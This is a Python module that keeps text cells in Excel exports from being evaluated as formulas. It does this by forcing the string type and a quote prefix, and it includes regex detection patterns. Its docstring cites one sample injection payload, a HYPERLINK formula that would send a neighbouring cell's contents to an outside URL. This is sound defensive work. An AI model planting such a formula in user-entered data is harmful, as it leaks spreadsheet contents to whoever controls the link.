"""Cells the portal writes to Excel: text stays text, whoever typed it.

openpyxl writes any str starting with "=" as a formula, and Excel (or a copy pasted elsewhere) may evaluate text
starting with "+", "-", "@", tab or CR: an organisation named `=HYPERLINK("http://…"&B2,"Click")`, accepted at
sign-up, would reach an auditor's ledger as a live link leaking the next cell. Every export builds its cells with
`cell` and appends its rows with `append`; such text gets the string type (an inline string, never `<f>`) and
Excel's quote prefix (so editing the cell keeps it text), and characters XML cannot carry are dropped instead of
failing the export. Numbers, Decimals, dates and None pass untouched: a negative amount stays a number.

>>> from decimal import Decimal
>>> from openpyxl import Workbook
>>> sheet = Workbook().active
>>> made = cell(sheet, '=1+2')
>>> made.value, made.data_type, made.quotePrefix
('=1+2', 's', True)
>>> [type(v).__name__ for v in safe_row(sheet, [Decimal("-1.50"), -3, "plain", "-3", None])]
['Decimal', 'int', 'str', 'Cell', 'NoneType']
"""

import re

from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ERROR_CODES, Cell

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# what Excel could read as a formula or an error value, or what XML cannot hold (openpyxl refuses it)
_RISKY = re.compile(r"^[=+\-@\t\r#]|[\x00-\x08\x0b\x0c\x0e-\x1f]")
_ILLEGAL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")


def is_formula_like(value) -> bool:
    """True for text a spreadsheet could evaluate rather than show."""
    return isinstance(value, str) and (value.startswith(FORMULA_STARTS) or value in ERROR_CODES)


def _risky(value: str) -> bool:
    return _RISKY.search(value) is not None


def _as_text(made: Cell) -> Cell:
    made.data_type = "s"
    made.quotePrefix = True
    return made


def cell(sheet, value, *, font=None, fill=None, alignment=None, number_format=None) -> Cell:
    """A cell for `sheet` (write-only or not) holding `value`; text is always written as text."""
    text = isinstance(value, str)
    if text and _ILLEGAL.search(value):
        value = _ILLEGAL.sub("", value)
    made = WriteOnlyCell(sheet, value=value)
    if text and (made.data_type != "s" or value.startswith(FORMULA_STARTS)):
        _as_text(made)
    if font is not None:
        made.font = font
    if fill is not None:
        made.fill = fill
    if alignment is not None:
        made.alignment = alignment
    if number_format is not None:
        made.number_format = number_format
    return made


def safe_row(sheet, values) -> list:
    """`values` with every risky text replaced by a text cell; cells made elsewhere are forced to text if openpyxl
    typed their text as a formula or an error. Cheap on the common case: one regex test per str."""
    row = []
    for value in values:
        if type(value) is str:
            if _risky(value):
                value = cell(sheet, value)
        elif isinstance(value, Cell) and value.data_type in ("f", "e") and isinstance(value.value, str):
            _as_text(value)
        elif isinstance(value, str):  # a str subclass (a lazy translation, a SafeString)
            value = cell(sheet, str(value))
        row.append(value)
    return row


def append(sheet, values) -> None:
    """Append a row to `sheet` with its text kept as text: the one way exports write rows."""
    sheet.append(safe_row(sheet, values))
